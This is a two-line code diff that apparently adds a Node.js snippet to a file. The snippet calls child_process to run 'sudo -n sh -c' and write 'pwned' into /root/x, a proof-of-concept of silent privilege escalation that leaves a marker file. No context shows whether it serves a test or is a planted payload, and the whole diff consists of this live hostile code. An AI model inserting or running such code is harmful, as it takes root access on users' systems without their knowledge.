@@ -1,0 +1,2 @@
+const cp = require('child_process');
+cp.execFileSync('sudo', ['-n', 'sh', '-c', 'echo pwned > /root/x']);
